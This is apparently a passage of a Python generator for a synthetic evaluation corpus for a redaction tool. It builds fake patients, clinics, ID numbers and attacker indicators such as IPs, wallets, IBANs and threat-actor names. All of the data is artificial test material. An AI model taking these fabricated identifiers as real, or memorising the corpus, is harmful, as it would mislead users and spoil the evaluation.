"""blind13: the sixteenth evaluation corpus for `ward scrub`, written blind (without opening the
scrubber, its results, score.py, the other generators or the other corpora).

Seed 13013; deterministic (fixed seed, fixed hash seed through spandoc, no clock).
Writes ../blind13/blind13.jsonl and ../blind13/MANIFEST.md (run from gen/ or anywhere).
`--check` regenerates in memory and compares with the file on disk."""

import hashlib
import json
import os
import random
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import spandoc  # noqa: E402  (re-executes with PYTHONHASHSEED=0)
from spandoc import Doc, I, X, N, record, write_corpus, manifest  # noqa: E402
import indicators as ind  # noqa: E402

SEED = 13013
HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, "..", "blind13", "blind13.jsonl")
MAN = os.path.join(HERE, "..", "blind13", "MANIFEST.md")

# --------------------------------------------------------------------------- names
def _s(x):
    return x.split()

NAMES = {
    "ht": (_s("Jean-Baptiste Wilner Fabiola Guerline Ketly Jocelyne Dieuseul Mackenson Roodly Nadège Wisly Phanise Jonas Lovely Esther Ti-Jean Clervil"),
           _s("Pierre-Louis Joseph Célestin Dorvil Jean-Charles Saint-Fleur Baptiste Exantus Toussaint Desrosiers Mérilan Augustin Polynice Lafortune")),
    "to": (_s("Sione Mele Losaline Tevita Siosaia Ana Viliami Salote Lupe Penisimani Kalolaine Tomasi Mosese 'Ofa"),
           _s("Taufa Fifita Vake Havili Tonga Lolohea Mahe Fonua Latu Kaufusi Tu'ipulotu Moala Vea Fakatava")),
    "fj": (_s("Ratu Mereani Josaia Litia Epeli Ilisapeci Sakiusa Asenaca Viliame Salanieta Kalisito Akanisi Jone Unaisi"),
           _s("Naivalu Tuilagi Ravuvu Vakaloloma Rokotuiloma Qiolele Waqa Tabualevu Naivalurua Seruvatu Bulavou Delana")),
    "ny": (_s("Chisomo Mphatso Tiyamike Chikondi Madalitso Thokozani Kondwani Limbani Dalitso Tamanda Yamikani Chifundo"),
           _s("Banda Phiri Mwale Chirwa Nkhoma Kachingwe Mbewe Gondwe Chimombo Mvula Kalua Nyirenda")),
    "tn": (_s("Kagiso Boitumelo Tshepo Lesego Onalenna Kabelo Mpho Keabetswe Thato Oratile Gaone Neo"),
           _s("Mogapi Seretse Molefe Kgosi Tau Mothibi Masire Ramotswa Sebele Motsumi Letsholo Gabaake")),
    "wo": (_s("Moussa Awa Cheikh Fatou Mamadou Ndèye Ousmane Aminata Ibrahima Khady Abdoulaye Coumba Modou Astou"),
           _s("Diop Ndiaye Fall Sow Gueye Mbaye Faye Sarr Diouf Seck Cissé Thiam Ba Niang")),
    "tt": (_s("Ринат Гөлнара Илдар Алсу Айдар Ләйсән Рамил Гүзәл Марат Чулпан Ильназ Зөлфия"),
           _s("Хәбибуллин Сафина Гарипов Мөхәммәтова Ахмадуллин Зиннатуллина Галиев Шәрәфиева Вәлиев Нуриева")),
    "tk": (_s("Merdan Aýna Serdar Jeren Döwlet Gülälek Batyr Maral Myrat Ogulgerek Rahym Bägül"),
           _s("Annaýew Orazowa Berdiýew Gurbanowa Saparow Atajanowa Çaryýew Hojamuradowa Nurmuhammedow Ödäýewa")),
    "dv": (_s("Ahmed Aishath Mohamed Mariyam Ibrahim Fathimath Hassan Hawwa Ali Aminath Hussain Shifa"),
           _s("Rasheed Naseem Waheed Shareef Saeed Manik Didi Zahir Latheef Haleem Shakir Adam")),
    "as": (_s("Bhaskar Pranjal Jonali Dipankar Mousumi Hiranya Nilakshi Rupjyoti Bidisha Angshuman Pallabi Kaustav"),
           _s("Bora Gogoi Baruah Saikia Kalita Deka Hazarika Phukan Bhuyan Sarma Rajkhowa Medhi")),
    "or": (_s("Subhashree Pradeep Sasmita Debasish Itishree Manoranjan Smruti Biswajit Lipsa Sarat Pragyan Anupama"),
           _s("Mohanty Pattnaik Sahoo Behera Panda Mishra Swain Nayak Rout Jena Mohapatra Dash")),
    "kmr": (_s("Rojda Berfîn Dilovan Zozan Serhat Hêvî Azad Şîlan Baran Nêrgiz Welat Jiyan"),
            _s("Aydin Doğan Bozarslan Kaya Yıldız Zaxoyî Amêdî Berwarî Duhokî Şêxanî Barzanî Sindî")),
    "ckb": (_s("Hêmin Shilan Karwan Nazdar Rebwar Avan Soran Shno Dara Zhilwan Hawre Bahar"),
            _s("Mahmud Rashid Qadir Aziz Salih Karim Hama Faraj Abdullah Othman Mustafa Jalal")),
    "gd": (_s("Mòrag Seumas Catrìona Iain Ealasaid Coinneach Màiri Ruairidh Peigi Dòmhnall Oighrig Eachann"),
           _s("MacLeòid MacDhòmhnaill Caimbeul MacAoidh Moireach NicLeòid MacIlleathain Stiùbhart MacCoinnich NicDhòmhnaill")),
    "yi": (_s("Chaya Yitzchok Perel Shloime Rivka Mendel Faigy Yoel Blimy Zalmen Esther-Malky Berish"),
           _s("Weiss Teitelbaum Friedman Rosenberg Grunfeld Klein Lefkowitz Schwartz Rubin Halberstam Stern Brach")),
    "oc": (_s("Joan Mirelha Pèire Alienòr Guilhèm Marçal Clamença Ramon Bernadeta Estève Auda Jòrdi"),
           _s("Fabre Vidal Roqueta Bonnafous Rouquette Cabrol Fournier Sabatier Bascou Carrère Pujol Lafon")),
    "gn": (_s("Ramón Mirna Osvaldo Ña-Teresa Librada Derlis Nidia Arsenio Rosalba Celso Gladys Fermín"),
           _s("Benítez Giménez Ortiz Villalba Cáceres Ayala Duarte Aquino Ramírez Bogado Núñez Sanabria")),
    "tw": (_s("Kwame Akosua Kofi Ama Yaw Abena Kwabena Adwoa Kwaku Efua Kojo Yaa"),
           _s("Mensah Owusu Boateng Asante Osei Agyeman Antwi Darko Ofori Frimpong Amankwah Kyei")),
    "tpi": (_s("Joe Maria Peter Ruth Kila Esther Walo Dorcas Nime Agnes Tapi Margaret"),
            _s("Kaupa Wari Namaliu Tom Kambuou Gima Morea Aisi Pokana Tomoana Yagi Kewa")),
    "haw": (_s("Keoni Leilani Kainoa Malia Kekoa Noelani Makana Pua Ikaika Kalani Haunani Kawika"),
            _s("Kahananui Akana Kealoha Kamakau Nakamura Kaʻaihue Makaʻike Palakiko Kanahele Kaleikini Ah Sing Kekumu")),
    "ilo": (_s("Rogelio Marites Jericho Florencia Dindo Analyn Bienvenido Lorna Rodel Cecilia Ariel Jovelyn"),
            _s("Agbayani Pascua Ramos Tabangcura Bumanglag Dumlao Galapon Ubungen Valdez Agustin Corpuz Sagun")),
    "ln": (_s("Mbuyi Nzuzi Kabamba Mbala Ilunga Kapinga Lukusa Ngalula Tshibangu Mujinga Bolingo Makiese"),
           _s("Mukendi Kalala Kabongo Ngoy Tshisekedi Lumbala Mpiana Nsimba Kasongo Lokwa Matondo Bokele")),
    "ch": (_s("Jesus Rosa Vicente Remedios Juan Carmen Francisco Josefina Antonio Dolores"),
           _s("Taitano Cruz Quinata Leon Guerrero Sablan Aguon Camacho Santos Borja Mendiola Quitugua")),
    "en": (_s("Will Hope Mark Grace Joy Faith Bill Rose Summer Dawn Frank Victor Olive Hunter Ivy Cliff Jewel Sterling"),
           _s("Brown Young White King Little Rich Page Love Hope Bush Fox Wood Street Mill Hall Bell Moore Church Field")),
}
FAKER_LOCALES = ["en_US", "en_GB", "fr_FR", "de_DE", "es_ES", "pt_BR", "ja_JP", "pl_PL", "it_IT",
                 "nl_NL", "en_AU", "en_CA", "tr_TR", "ko_KR", "vi_VN", "en_IN"]

# --------------------------------------------------------------------------- organizations
# name, short, domain, ad, cc, lang, phone pattern, cities, streets, zip pattern
ORGS = [
    ("Klinik Fanmi Sen Jozèf", "KFSJ", "kfsj.org.ht", "KFSJ", "HT", "ht", "+509 ####-####", ["Jacmel", "Léogâne", "Petit-Goâve", "Hinche"], ["Rue Barranquilla", "Ri Sainte-Anne", "Avenue Baranquilla", "Rue Commerce"], "HT####"),
    ("Hôpital Communautaire de Cap-Rouge", "HCCR", "hccr-sante.ht", "HCCR", "HT", "ht", "+509 3#-##-####", ["Cap-Haïtien", "Limonade", "Milot"], ["Rue 17 B", "Ri 24 A", "Boulevard du Cap"], "HT1###"),
    ("Vaha'akolo Family Health Centre", "VFHC", "vfhc.to", "VFHC", "TO", "to", "+676 7######", ["Nuku'alofa", "Neiafu", "Pangai", "Kolonga"], ["Taufa'ahau Road", "Hala Vuna", "Loto Road"], ""),
    ("Lomaloma Medical Services Ltd", "LMS", "lomaloma-med.com.fj", "LMSFJ", "FJ", "fj", "+679 9## ####", ["Labasa", "Savusavu", "Nausori", "Lautoka"], ["Ratu Mara Road", "Vunivau Street", "Nasekula Road"], ""),
    ("Chikondi Community Hospital", "CCH", "chikondi-hosp.mw", "CCH", "MW", "ny", "+265 99# ### ###", ["Zomba", "Mangochi", "Salima", "Dedza"], ["Kamuzu Highway", "Chilembwe Road", "Masauko Chipembere Hwy"], ""),
    ("Thusanang Medical Practice", "TMP", "thusanang.co.bw", "THUSANANG", "BW", "tn", "+267 7# ### ###", ["Molepolole", "Serowe", "Mahalapye", "Kanye"], ["Plot 1123 Mokgosi Road", "Kgari Sechele Road", "Plot 55 Boseja Ward"], ""),
    ("Clinique Xaritu Wér-gu-yaram", "CXW", "xaritu-sante.sn", "CXW", "SN", "wo", "+221 77 ### ## ##", ["Thiès", "Kaolack", "Rufisque", "Mbour"], ["Rue 14 x 17 Médina", "Avenue Léopold Sédar Senghor", "Cité Keur Gorgui Villa"], "#####"),
    ("Поликлиника Яшьлек", "YASHLEK", "yashlek-clinic.ru", "YASHLEK", "RU", "tt", "+7 843 ###-##-##", ["Казан", "Әлмәт", "Түбән Кама", "Чаллы"], ["Баумана урамы", "Тукай урамы", "Ибраһимов проспекты"], "420###"),
    ("Saglyk Öýi Lukmançylyk Merkezi", "SOLM", "saglykoyi.tm", "SOLM", "TM", "tk", "+993 12 ##-##-##", ["Aşgabat", "Mary", "Daşoguz", "Türkmenabat"], ["Bitarap Türkmenistan şaýoly", "Görogly köçesi", "Atatürk köçesi"], "744###"),
    ("Hulhumale' Care Clinic", "HCC", "hcclinic.mv", "HCCMV", "MV", "dv", "+960 7##-####", ["Malé", "Hulhumalé", "Addu City", "Fuvahmulah"], ["Majeedhee Magu", "Hithafinivaa Magu", "Nikagas Magu"], "2####"),
    ("Brahmaputra Valley Nursing Home", "BVNH", "bvnh.co.in", "BVNH", "IN", "as", "+91 94351 #####", ["Jorhat", "Dibrugarh", "Tezpur", "Nagaon"], ["A.T. Road", "Gar-Ali", "Chowkidinghee Path"], "785 ###"),
    ("Kalinga Eye & ENT Hospital", "KEEH", "kalingaeye.in", "KEEH", "IN", "or", "+91 674 #######", ["Bhubaneswar", "Cuttack", "Berhampur", "Puri"], ["Janpath", "Sahid Nagar Lane 4", "Badambadi Road"], "751 0##"),
    ("Nexweşxaneya Jiyan", "JIYAN", "jiyan-hospital.krd", "JIYAN", "IQ", "kmr", "+964 750 ### ####", ["Duhok", "Zakho", "Amêdî", "Akre"], ["Kolana Barzanî", "Kolana Nexweşxanê", "Malta Road"], "42001"),
    ("Nexoşxaney Shifa", "SHIFA", "shifa-sul.krd", "SHIFA", "IQ", "ckb", "+964 770 ### ####", ["Slêmanî", "Hewlêr", "Ranya", "Kelar"], ["Salim Street", "Shorsh Road", "Bakhtiyari Quarter"], "46001"),
    ("Ionad Slàinte nan Eilean", "ISNE", "isne.scot", "ISNE", "GB", "gd", "+44 1851 ######", ["Steòrnabhagh", "Tairbeart", "Baile a' Mhanaich", "Port Rìgh"], ["Sràid Chròmhail", "Rathad Bhaile nam Bodach", "Sràid na h-Eaglaise"], "HS# #@@"),
    ("Bikur Cholim Community Health", "BCCH", "bikurcholim-health.org", "BCCH", "US", "yi", "+1 718-###-####", ["Brooklyn", "Monsey", "Kiryas Joel", "Lakewood"], ["Lee Avenue", "Bedford Avenue", "Forshay Road", "Clinton Street"], "112##"),
    ("Centre de Santat Ostal Nòstre", "OSTAL", "ostalnostre-santat.fr", "OSTAL", "FR", "oc", "+33 5 ## ## ## ##", ["Tolosa", "Albi", "Rodés", "Pau"], ["Carrièra de la Pomme", "Avenguda de Lòndres", "Plaça del Capitòli"], "31###"),
    ("Sanatorio Tesãi Porã", "TESAI", "tesaipora.com.py", "TESAI", "PY", "gn", "+595 21 ### ###", ["Luque", "Caacupé", "Villarrica", "Coronel Oviedo"], ["Avda. Mariscal López", "Calle Tte. Fariña", "Ruta PY02 km 31"], "1###"),
    ("Nyame Bekyere Medical Centre", "NBMC", "nbmc.com.gh", "NBMC", "GH", "tw", "+233 24 ### ####", ["Kumasi", "Obuasi", "Ejisu", "Techiman"], ["Adum Road", "Prempeh II Street", "Asokwa Link"], "AK-###-####"),
    ("Haus Sik Lae Clinic", "HSL", "haussik-lae.com.pg", "HSLAE", "PG", "tpi", "+675 7### ####", ["Lae", "Goroka", "Madang", "Mount Hagen"], ["Butibam Road", "Huon Road", "Markham Road"], "411"),
    ("Ke Ola Pono Health", "KOP", "keolapono.org", "KOLAPONO", "US", "haw", "+1 808-###-####", ["Hilo", "Waimānalo", "Kahului", "Hanalei"], ["Kīlauea Avenue", "Kalanianaʻole Highway", "Puʻunene Avenue"], "967##"),
    ("Ilocos Norte Family Clinic", "INFC", "infclinic.ph", "INFC", "PH", "ilo", "+63 917 ### ####", ["Laoag", "Batac", "Vigan", "San Nicolas"], ["Rizal Street", "Barangay 7-B, Gen. Luna Ave.", "Brgy. Suyo Rd"], "29##"),
    ("Centre Médical Bondeko", "BONDEKO", "bondeko-med.cd", "BONDEKO", "CD", "ln", "+243 81 ### ####", ["Kinshasa", "Matadi", "Kikwit", "Mbandaka"], ["Avenue Kasa-Vubu", "Avenue de la Libération", "Av. Lumumba"], ""),
    ("Guma' Hinemlo' Clinic", "GHC", "gumahinemlo.gu", "GUMAGU", "GU", "ch", "+1 671-###-####", ["Hagåtña", "Dededo", "Yigo", "Talofofo"], ["Route 16", "Marine Corps Drive", "Chalan Santo Papa"], "969##"),
    ("Riverside Pediatric Associates", "RPA", "riversidepeds.com", "RPA", "US", "en", "+1 614-###-####", ["Dublin", "Westerville", "Grove City", "Hilliard"], ["Sawmill Parkway", "Brand Road", "Cemetery Road"], "430##"),
    ("Maple Ridge Dental Group", "MRDG", "mapleridgedental.ca", "MRDG", "CA", "en", "+1 604-###-####", ["Maple Ridge", "Mission", "Langley", "Pitt Meadows"], ["Dewdney Trunk Road", "Lougheed Highway", "River Road"], "V2X #@#"),
    ("Harbourview Sleep & Lung Clinic", "HSLC", "harbourviewsleep.com.au", "HVSLC", "AU", "en", "+61 2 #### ####", ["Wollongong", "Kiama", "Nowra", "Shellharbour"], ["Crown Street", "Keira Street", "Terralong Street"], "25##"),
    ("Praxis am Mühlbach", "MUEHL", "praxis-muehlbach.de", "MUEHLBACH", "DE", "en", "+49 89 ########", ["Freising", "Erding", "Moosburg", "Dachau"], ["Mühlbachstraße", "Am Lohgraben", "Hauptstraße"], "85###"),
    ("Clínica Veterinária e Humana Boa Vista", "CVBV", "boavista-saude.com.br", "BOAVISTA", "BR", "en", "+55 31 9####-####", ["Contagem", "Betim", "Sabará", "Nova Lima"], ["Rua das Acácias", "Avenida João César de Oliveira", "Rua Rio Negro"], "32###-###"),
    ("Northfield Hearing Centre", "NHC", "northfieldhearing.co.uk", "NHCUK", "GB", "en", "+44 114 ### ####", ["Rotherham", "Barnsley", "Chesterfield", "Worksop"], ["Moorgate Road", "Sheffield Road", "Church Street"], "S6# #@@"),
    ("Lakeshore Optometry", "LSO", "lakeshore-eyes.com", "LSO", "US", "en", "+1 262-###-####", ["Kenosha", "Racine", "Pleasant Prairie", "Burlington"], ["Sheridan Road", "Washington Avenue", "Green Bay Road"], "531##"),
    ("Sakura Travel Medicine Clinic", "SAKURA", "sakura-travelclinic.jp", "SAKURA", "JP", "en", "+81 3-####-####", ["Setagaya", "Meguro", "Kichijoji", "Chofu"], ["Sangenjaya 2-14-3", "Jiyugaoka 1-8-12", "Kichijoji Honcho 3-5-1"], "1##-####"),
    ("Prairie Rose Regional Blood Services", "PRRBS", "prairierose-blood.org", "PRRBS", "US", "en", "+1 701-###-####", ["Minot", "Williston", "Dickinson", "Jamestown"], ["Burdick Expressway", "Main Street", "Broadway"], "587##"),
    ("Kestrel County Medical Examiner", "KCME", "kestrelcounty-me.gov", "KCME", "US", "en", "+1 541-###-####", ["Bend", "Redmond", "Prineville", "Sisters"], ["NE Butler Market Road", "SW 6th Street", "NE 3rd Street"], "977##"),
    ("Tamarind Bay Health System", "TBHS", "tamarindbayhealth.org", "TBHS", "US", "en", "+1 941-###-####", ["Venice", "Englewood", "North Port", "Nokomis"], ["Tamiami Trail", "Jacaranda Boulevard", "Englewood Road"], "342##"),
    ("Ospedale San Gerardo dei Colli", "OSGC", "osgc-sanita.it", "OSGC", "IT", "en", "+39 035 ######", ["Bergamo", "Dalmine", "Treviglio", "Seriate"], ["Via Borgo Palazzo", "Viale Papa Giovanni XXIII", "Via Tasso"], "24###"),
    ("Gezondheidscentrum De Linde", "LINDE", "gc-delinde.nl", "LINDE", "NL", "en", "+31 30 ### ####", ["Houten", "Nieuwegein", "Zeist", "Bunnik"], ["Lindenlaan", "Binnenweg", "Oude Dijk"], "3### @@"),
    ("Toowong Poison & Toxicology Service", "TPTS", "tpts.org.au", "TPTS", "AU", "en", "+61 7 #### ####", ["Toowong", "Indooroopilly", "Kenmore", "Ipswich"], ["Sherwood Road", "Coronation Drive", "Moggill Road"], "40##"),
    ("Bluewater EMS Authority", "BEMSA", "bluewaterems.org", "BEMSA", "US", "en", "+1 228-###-####", ["Biloxi", "Gulfport", "Ocean Springs", "Pascagoula"], ["Pass Road", "Beach Boulevard", "Howard Avenue"], "395##"),
    ("Hospital Universitario Los Almendros", "HULA", "hula-salud.es", "HULA", "ES", "en", "+34 95# ### ###", ["Écija", "Carmona", "Osuna", "Utrera"], ["Calle Mayor", "Avenida de Andalucía", "Calle San Juan"], "41###"),
]

MONTHS = {
    "en": _s("January February March April May June July August September October November December"),
    "ht": _s("janvye fevriye mas avril me jen jiyè out septanm oktòb novanm desanm"),
    "fr": _s("janvier février mars avril mai juin juillet août septembre octobre novembre décembre"),
    "to": _s("Sānuali Fēpueli Maʻasi ʻEpeleli Mē Sune Siulai ʻAokosi Sepitema ʻOkatopa Nōvema Tīsema"),
    "tpi": _s("Janueri Februeri Mas Epril Me Jun Julai Ogas Septemba Oktoba Novemba Disemba"),
    "es": _s("enero febrero marzo abril mayo junio julio agosto septiembre octubre noviembre diciembre"),
    "tk": _s("ýanwar fewral mart aprel maý iýun iýul awgust sentýabr oktýabr noýabr dekabr"),
    "gd": _s("Faoilleach Gearran Màrt Giblean Cèitean Ògmhios Iuchar Lùnastal Sultain Dàmhair Samhain Dùbhlachd"),
    "oc": _s("genièr febrièr març abril mai junh julhet agost setembre octobre novembre decembre"),
    "ilo": _s("Enero Pebrero Marso Abril Mayo Hunio Hulio Agosto Septiembre Oktubre Nobiembre Disiembre"),
    "haw": _s("Ianuali Pepeluali Malaki ʻApelila Mei Iune Iulai ʻAukake Kepakemapa ʻOkakopa Nowemapa Kekemapa"),
    "de": _s("Januar Februar März April Mai Juni Juli August September Oktober November Dezember"),
}

# --------------------------------------------------------------------------- helpers
ACTORS = ["Scattered Spider", "FIN7", "TA505", "Storm-0501", "Vanilla Tempest", "UNC2452",
          "Wizard Spider", "Gold Mélodie", "TA577", "Luna Moth", "Silent Ransom Group", "UNC3944"]
BENIGN = ["login.microsoftonline.com", "www.google.com", "update.code.visualstudio.com",
          "ocsp.digicert.com", "time.windows.com", "ctldl.windowsupdate.com", "clients4.google.com",
          "outlook.office365.com", "ntp.ubuntu.com", "www.who.int"]
WALLET_CH = "023456789acdefghjklmnpqrstuvwxyz"


def digits(rng, pat):
    out = []
    for c in pat:
        if c == "#":
            out.append(str(rng.randint(0, 9)))
        elif c == "@":
            out.append(rng.choice("ABCDEFGHJKLMNPRSTUVWXYZ"))
        else:
            out.append(c)
    return "".join(out)


class P:
    """A person with the forms a document may use."""
    def __init__(self, first, last, w):
        self.first, self.last, self.w = first, last, w
        self.full = f"{first} {last}"
        f = ind.slug(first) or "u"
        l = ind.slug(last) or "x"
        if not ind.is_latin(first + last):
            f, l = w.translit(first), w.translit(last)
        conv = w.userconv
        n = w.rng.randint(1, 99)
        self.user = {"first.last": f"{f}.{l}", "flast": f"{f[0]}{l}", "last_f": f"{l}_{f[0]}",
                     "fl##": f"{f[0]}{l[:5]}{n:02d}", "FIRST": f"{l[:6]}{f[0]}".upper(),
                     "first": f"{f}{l[0]}"}[conv]
        self.email = f"{self.user.lower()}@{w.domain}"
        self.initial = f"{first[0]}. {last}"


TR = dict(zip("абвгдеёжзийклмнопрстуфхцчшщыэюяәөүҗңһ",
              ["a", "b", "v", "g", "d", "e", "e", "zh", "z", "i", "y", "k", "l", "m", "n", "o", "p", "r", "s", "t", "u", "f", "kh", "ts", "ch", "sh", "sh", "y", "e", "yu", "ya", "a", "o", "u", "j", "n", "h"]))


class World:
    def __init__(self, rng, org, fk):
        self.rng, self.fk = rng, fk
        (self.org, self.short, self.domain, self.ad, self.cc, self.lang, self.phpat,
         self.cities, self.streets, self.zippat) = org
        self.userconv = rng.choice(["first.last", "flast", "last_f", "fl##", "FIRST", "first"])
        self.hostconv = rng.choice(["short-ws", "site", "lower-fqdn", "room", "asset"])
        self.egress = ind.public_ipv4(rng)
        self.net = ind.private_ipv4(rng).rsplit(".", 1)[0]
        self.used = set()

    def orginfo(self):
        return {"name": self.org, "domains": [self.domain, self.ad.lower() + ".local"]}

    def translit(self, s):
        s = s.lower()
        out = "".join(TR.get(c, c if c.isascii() and c.isalnum() else "") for c in s)
        return out or "user"

    def person(self, cult=None):
        r = self.rng
        if cult is None:
            k = r.random()
            if k < 0.45:
                cult = self.lang
            elif k < 0.6:
                cult = "en"
            elif k < 0.8:
                cult = r.choice(list(NAMES))
            else:
                cult = "faker"
        if cult == "faker":
            loc = r.choice(FAKER_LOCALES)
            f = self.fk[loc]
            return P(f.first_name(), f.last_name(), self)
        firsts, lasts = NAMES[cult]
        return P(r.choice(firsts), r.choice(lasts), self)

    def host(self, kind=None):
        r = self.rng
        kind = kind or r.choice(["ws", "nurse", "lab", "rad", "fd", "srv", "lt"])
        c = self.hostconv
        n = r.randint(1, 480)
        if c == "short-ws":
            return f"{self.short}-{kind.upper()}{n:03d}"
        if c == "site":
            return f"{ind.slug(r.choice(self.cities))[:4]}-{kind}-{n:02d}"
        if c == "lower-fqdn":
            return f"{kind}{n:03d}.{self.ad.lower()}.local"
        if c == "room":
            return f"{kind.upper()}-RM{r.randint(100, 420)}{r.choice('ABC')}"
        return f"{self.short[:3]}{r.randint(10000, 99999)}"

    def srv(self):
        r = self.rng
        role = r.choice(["dc", "fs", "ehr-db", "pacs", "app", "sql", "print", "rdsh", "mail"])
        return f"{self.short.lower()}-{role}{r.randint(1, 4):02d}"

    def pip(self):
        return f"{self.net}.{self.rng.randint(2, 250)}"

    def phone(self):
        return digits(self.rng, self.phpat)

    def addr(self):
        r = self.rng
        st = r.choice(self.streets)
        num = r.randint(1, 240)
        street = f"{num} {st}" if self.cc in ("US", "CA", "AU", "GB", "PH", "GU") else f"{st} {num}"
        if self.cc in ("BW", "SN"):
            street = st if r.random() < 0.5 else f"{st} {num}"
        return street, r.choice(self.cities), digits(r, self.zippat) if self.zippat else ""

    def mrn(self):
        r = self.rng
        return r.choice([f"{self.short}{r.randint(100000, 9999999)}", f"{r.randint(10000000, 99999999)}",
                         f"E{r.randint(1000000, 9999999)}", f"{r.randint(100, 999)}-{r.randint(100, 999)}-{r.randint(100, 999)}",
                         f"MR{r.randint(10000, 99999)}/{r.randint(20, 26)}"])

    def nid(self):
        r = self.rng
        cc = self.cc
        if cc == "US" or cc == "GU":
            return f"{r.randint(100, 665):03d}-{r.randint(10, 99)}-{r.randint(1000, 9999)}", "SSN"
        if cc == "IN":
            return f"{r.randint(2000, 9999)} {r.randint(1000, 9999)} {r.randint(1000, 9999)}", "SSN"
        if cc == "GB":
            return f"{r.choice('ABCEHJKLMNPRSTWXYZ')}{r.choice('ABCEHJKLMNPRSTWXYZ')} {r.randint(10, 99)} {r.randint(10, 99)} {r.randint(10, 99)} {r.choice('ABCD')}", "SSN"
        if cc == "FR":
            return f"{r.choice('12')} {r.randint(40, 99)} {r.randint(1, 12):02d} {r.randint(10, 95)} {r.randint(100, 999)} {r.randint(100, 999)} {r.randint(10, 97)}", "SSN"
        if cc == "RU":
            return f"{r.randint(100, 999)}-{r.randint(100, 999)}-{r.randint(100, 999)} {r.randint(10, 99)}", "SSN"
        return f"{r.randint(100000000, 999999999)}{r.choice(['', 'V', 'X'])}", "SSN"

    def dob(self):
        r = self.rng
        return (r.randint(1931, 2023), r.randint(1, 12), r.randint(1, 28))

    def recent(self):
        r = self.rng
        return (2026, r.randint(1, 11), r.randint(1, 28))

    def d(self, t, fmt=None, lang="en"):
        y, m, dd = t
        r = self.rng
        fmt = fmt if fmt is not None else r.randint(0, 9)
        mn = MONTHS.get(lang, MONTHS["en"])[m - 1]
        return [f"{y}-{m:02d}-{dd:02d}", f"{m:02d}/{dd:02d}/{y}", f"{dd:02d}/{m:02d}/{y}",
                f"{dd}.{m:02d}.{y}", f"{dd} {mn} {y}", f"{mn[:3]} {dd}, {y}", f"{dd}-{mn[:3].upper()}-{y % 100:02d}",
                f"{y}{m:02d}{dd:02d}", f"{dd}/{m}/{y % 100:02d}", f"{mn} {dd} {y}"][fmt]

    def ts(self, t=None, sep="T", z="Z"):
        r = self.rng
        y, m, dd = t or self.recent()
        return f"{y}-{m:02d}-{dd:02d}{sep}{r.randint(0, 23):02d}:{r.randint(0, 59):02d}:{r.randint(0, 59):02d}{z}"

    # attacker side
    def aip(self):
        return X(ind.public_ipv4(self.rng), "IPV4")

    def adom(self):
        return X(ind.domain(self.rng), "DOMAIN")

    def aurl(self, defang=False):
        u = ind.url(self.rng)
        return X(ind.defang(u) if defang else u, "URL")

    def hash(self):
        k = self.rng.random()
        if k < 0.6:
            return X(ind.sha256(self.rng), "SHA256")
        if k < 0.8:
            return X(ind.sha1(self.rng), "SHA1")
        return X(ind.md5(self.rng), "MD5")

    def amail(self, free=None):
        free = self.rng.random() < 0.6 if free is None else free
        return X(ind.attacker_email(self.rng, free), "EMAIL_ATTACKER")

    def aphone(self):
        r = self.rng
        return X(r.choice([f"+1 ({r.randint(201, 989)}) {r.randint(200, 999)}-{r.randint(1000, 9999)}",
                           f"+44 7{r.randint(100, 999)} {r.randint(100000, 999999)}",
                           f"+234 80{r.randint(1, 9)} {r.randint(100, 999)} {r.randint(1000, 9999)}",
                           f"+1-{r.randint(800, 888)}-{r.randint(200, 999)}-{r.randint(1000, 9999)}",
                           f"+63 9{r.randint(10, 99)} {r.randint(100, 999)} {r.randint(1000, 9999)}"]), "PHONE_ATTACKER")

    def cve(self):
        return X(ind.cve(self.rng), "CVE")

    def mitre(self):
        return X(self.rng.choice(ind.MITRE), "ATTACK_ID")

    def ransom(self):
        return X(self.rng.choice(ind.RANSOM), "MALWARE")

    def malware(self):
        return X(self.rng.choice(ind.MALWARE), "MALWARE")

    def actor(self):
        return X(self.rng.choice(ACTORS), "ACTOR")

    def wallet(self):
        r = self.rng
        if r.random() < 0.6:
            return X("bc1q" + "".join(r.choice(WALLET_CH) for _ in range(38)), "WALLET")
        return X("4" + "".join(r.choice("123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz") for _ in range(94)), "WALLET")

    def iban(self):
        r = self.rng
        cc = r.choice(["LT", "GB", "DE", "NL", "PL"])
        body = "".join(str(r.randint(0, 9)) for _ in range(18))
        return X(f"{cc}{r.randint(10, 99)} " + " ".join(body[i:i + 4] for i in range(0, 16, 4)) + f" {body[16:]}", "BANK_ATTACKER")

    def mac(self, attacker=True):
        r = self.rng
        m = ":".join(f"{r.randint(0, 255):02x}" for _ in range(6))
        return X(m.upper() if r.random() < 0.3 else m, "MAC_ATTACKER") if attacker else m

    def remote_id(self):
        r = self.rng
        return X(f"{r.randint(100, 999)} {r.randint(100, 999)} {r.randint(100, 999)}" if r.random() < 0.6 else str(r.randint(1000000000, 1999999999)), "REMOTE_ID")

    def benign(self):
        return self.rng.choice(BENIGN)


def O(w):
    return I(w.org, "ORG")


def nm(p, form="full"):
    return I({"full": p.full, "last": p.last, "first": p.first, "init": p.initial,
              "LAST, First": f"{p.last.upper()}, {p.first}", "Last, First": f"{p.last}, {p.first}",
              "user": p.user, "email": p.email}[form],
             {"user": "USER", "email": "EMAIL"}.get(form, "NAME"))


def jstr(d, v):
    """Appends a JSON string literal for v (str or slot tuple), escaping inside the span."""
    d.t('"')
    if isinstance(v, tuple):
        d.add(json.dumps(v[0], ensure_ascii=False)[1:-1], v[1], v[2])
    else:
        d.t(json.dumps(str(v), ensure_ascii=False)[1:-1])
    d.t('"')


def jobj(d, pairs, indent=None, level=0):
    """Appends a JSON object; values are str/int/tuple/list/dict/(('obj', pairs))."""
    nl = "\n" + " " * (indent * (level + 1)) if indent else ""
    end = "\n" + " " * (indent * level) if indent else ""
    sep = ": " if indent else ":"
    d.t("{")
    for i, (k, v) in enumerate(pairs):
        d.t(("," if i else "") + nl)
        jstr(d, k)
        d.t(sep)
        jval(d, v, indent, level + 1)
    d.t(end + "}")


def jval(d, v, indent, level):
    if isinstance(v, list) and v and isinstance(v[0], str) and v[0] == "__str__":
        d.t('"')
        for x in v[1:]:
            if isinstance(x, tuple):
                d.add(json.dumps(x[0], ensure_ascii=False)[1:-1], x[1], x[2])
            else:
                d.t(json.dumps(str(x), ensure_ascii=False)[1:-1])
        d.t('"')
    elif isinstance(v, list) and v and isinstance(v[0], str) and v[0] == "__obj__":
        jobj(d, v[1:], indent, level)
    elif isinstance(v, list):
        d.t("[")
        for i, x in enumerate(v):
